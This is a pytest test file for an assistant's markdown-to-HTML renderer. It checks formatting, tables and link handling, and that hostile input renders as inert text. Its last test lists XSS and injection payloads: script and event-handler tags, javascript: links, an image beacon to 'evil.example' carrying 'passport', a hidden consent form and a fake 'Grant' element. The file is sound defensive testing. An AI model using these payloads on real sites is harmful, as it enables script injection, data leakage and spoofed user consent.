"""Markdown of the assistant is rendered, and nothing in it runs or is fetched."""

from __future__ import annotations

import re

import pytest

from voyagent.http.markdown import as_html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One.\nTwo.\n\nThree.", "<p>One.<br>\nTwo.</p>\n<p>Three.</p>\n"),
        (
            "**12 Dec** and *maybe* `AI 933`",
            "<p><strong>12 Dec</strong> and <em>maybe</em> <code>AI 933</code></p>\n",
        ),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("# Your trip", '<p class="v-strong">Your trip</p>\n'),
        (
            "[Deepa](/trips/1?b=1&c=2)",
            (
                '<p><a href="/trips/1?b=1&amp;c=2" rel="noopener nofollow noreferrer">Deepa</a>'
                "</p>\n"
            ),
        ),
        (
            "[visa](https://visa.example/a?b=1&c=2)",
            "<p>visa (https://visa.example/a?b=1&amp;c=2)</p>\n",
        ),
        ("<https://visa.example/>", "<p>https://visa.example/</p>\n"),
        ("[pay](//evil.example/x)", "<p>pay (//evil.example/x)</p>\n"),
        ("<a@example.com>", "<p>a@example.com</p>\n"),
    ],
)
def test_markdown_is_rendered_as_html(text: str, html: str) -> None:
    assert as_html(text) == html


def test_a_markdown_table_becomes_an_html_table() -> None:
    assert (
        re.sub(r"\s", "", as_html("| a | b |\n|---|---|\n| 1 | 2 |"))
        == '<tabletabindex="0"><thead><tr><th>a</th><th>b</th></tr></thead>'
        "<tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
    )


def test_the_alignment_of_a_column_is_kept() -> None:
    html = as_html("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |")
    assert re.findall(r"<t[hd]\b[^>]*>", html) == [
        "<th>",
        '<th class="text-end">',
        '<th class="text-center">',
        "<td>",
        '<td class="text-end">',
        '<td class="text-center">',
    ]


def test_wide_tables_can_be_scrolled_by_keyboard() -> None:
    assert as_html("```python\nx = 1\n```") == '<pre tabindex="0"><code>x = 1\n</code></pre>\n'


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![a picture](https://evil.example/?q=passport)",
        "[go](javascript:alert(1))",
        "[go](data:text/html,<script>alert(1)</script>)",
        "<a href='https://evil.example' onclick=alert(1)>go</a>",
        '[go](https://evil.example "x" onmouseover="alert(1))',
        "<form action=/assistant method=post><input name=granted value=1></form>",
        "<svg/onload=alert(1)>",
        "<javascript:alert(1)>",
        "[a]: javascript:alert(1)\n\n[a]",
        "`<b onclick=alert(1)>`",
        "<style>*{display:none}</style>",
        '<p class="v-ask" id="say" style="position:fixed">Grant</p>',
    ],
)
def test_rendered_html_has_no_scripts_and_no_remote_content(text: str) -> None:
    html = str(as_html(text))
    elements = re.findall(r"<[^>]*>", html)
    for element in elements:
        name = element.strip("</>").split()[0]
        assert name in {"p", "code", "br", "pre"}, element
        assert re.fullmatch(
            r'</?\w+>|<p class="v-strong">|<pre tabindex="0">',
            element,
        ), element
